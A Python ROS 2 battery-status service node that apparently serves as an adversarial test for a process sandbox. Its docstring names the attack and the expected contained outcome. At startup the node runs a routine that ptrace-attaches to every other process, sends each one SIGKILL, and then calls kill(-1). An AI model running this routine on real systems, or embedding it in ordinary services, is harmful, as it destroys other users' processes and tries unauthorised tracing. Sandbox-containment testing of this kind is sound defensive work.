"""Attack: sends SIGKILL to every process it may signal, and asks to trace the others.
Outcome: it sees and may signal nobody but its own; it serves as ever.
Passes: nothing it did not do
"""

import ctypes
import os
import signal
from contextlib import suppress

import rclpy
from humanoid_interfaces.srv import GetBatteryStatus
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from sensor_msgs.msg import BatteryState

UNKNOWN = dict.fromkeys(("voltage", "temperature", "current", "charge", "capacity", "design_capacity", "percentage"), float("nan"))


def kill_everybody():
    libc = ctypes.CDLL(None, use_errno=True)
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    for pid in others:
        libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    with suppress(OSError):
        os.kill(-1, signal.SIGKILL)


class BatteryService(Node):
    def __init__(self):
        super().__init__("battery_service")
        self.last = None
        self.create_subscription(BatteryState, "battery_state", self.on_battery_state, 10)
        self.create_service(GetBatteryStatus, "get_battery_status", self.on_request)

    def on_battery_state(self, message):
        self.last = message

    def on_request(self, request, response):
        if self.last is None:
            response.available = False
            response.message = "no battery_state has arrived yet"
            response.battery = BatteryState(**UNKNOWN)
        else:
            response.available = True
            response.message = f"{self.last.percentage:.0%}"
            response.battery = self.last
        return response


def main(args=None):
    kill_everybody()
    rclpy.init(args=args)
    node = BatteryService()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == "__main__":
    main()
